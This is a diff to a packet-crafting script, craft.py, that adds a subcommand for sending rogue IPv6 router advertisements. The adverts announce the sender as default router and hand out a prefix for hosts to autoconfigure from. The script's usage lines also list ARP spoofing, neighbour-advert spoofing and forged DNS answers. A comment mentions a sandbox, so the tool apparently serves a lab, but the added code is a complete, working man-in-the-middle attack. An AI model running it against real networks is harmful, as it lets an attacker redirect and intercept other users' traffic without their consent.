@@ -17,6 +17,9 @@
 #   craft.py ether --dst-mac M --ethertype T [--data TEXT]
 #   craft.py arp --sender-ip A [--sender-mac M] [--target-ip A] [--op 2]
 #   craft.py na --target A [--tlla M] [--dst ff02::1]
+#   craft.py ra --prefix P [--lifetime S] [--dst ff02::1]   (a router
+#                advertisement: this sandbox as default router, P::/64 to
+#                autoconfigure from, from its link-local address)
 #   craft.py udp --dst A --dport P [--data TEXT] [--src A] [--src-mac M]
 #   craft.py dns --server A --name N [--qtype 1] [--tcp] [--variant V] [--port 53]
 #   craft.py dns-answer --to A --dport P --id N --name N --addr A   (forged, from upstream)
@@ -357,6 +360,26 @@ def cmd_na(a):
     for _ in range(a.count):
         l2.send(0x86DD, ipv6(src, a.dst, 58, m, hlim=255), dst=dst_mac)
     print("sent %d neighbour adverts: %s is-at %s (from %s)" % (a.count, a.target, tlla, src))
+
+
+def cmd_ra(a):
+    """What a rogue router sends: "route through me" (router lifetime) and
+    "take an address in P::/64" (prefix information, on-link and
+    autonomous), with the source link-layer address, from the link-local
+    address and at hop limit 255 as a host requires of a real one."""
+    l2 = L2(gw_mac(a), a.src_mac)
+    src = a.src or link_local(own_mac())
+    # hop limit, flags (none), router lifetime, reachable, retrans
+    body = struct.pack("!BBHII", 64, 0, a.lifetime, 0, 0)
+    body += struct.pack("!BB6s", 1, 1, mac_bytes(own_mac()))
+    # prefix information: /64, L and A, valid and preferred lifetimes
+    body += struct.pack("!BBBBIII16s", 3, 4, 64, 0xC0, 86400, 14400, 0,
+                        socket.inet_pton(socket.AF_INET6, a.prefix))
+    m = icmp6(src, a.dst, 134, 0, body)
+    dst_mac = None if a.dst != "ff02::1" else b"\x33\x33\x00\x00\x00\x01"
+    for _ in range(a.count):
+        l2.send(0x86DD, ipv6(src, a.dst, 58, m, hlim=255), dst=dst_mac)
+    print("sent %d router adverts: default router %s, prefix %s/64" % (a.count, src, a.prefix))
 
 
 def link_local(mac):
@@ -817,6 +840,12 @@ def main():
     t.add_argument("--tlla")
     t.add_argument("--dst", default="ff02::1")
     t.add_argument("--solicited", action="store_true")
+    t.add_argument("--count", type=int, default=3)
+
+    t = sub.add_parser("ra")
+    t.add_argument("--prefix", required=True)
+    t.add_argument("--lifetime", type=int, default=1800)
+    t.add_argument("--dst", default="ff02::1")
     t.add_argument("--count", type=int, default=3)
 
     t = sub.add_parser("udp")
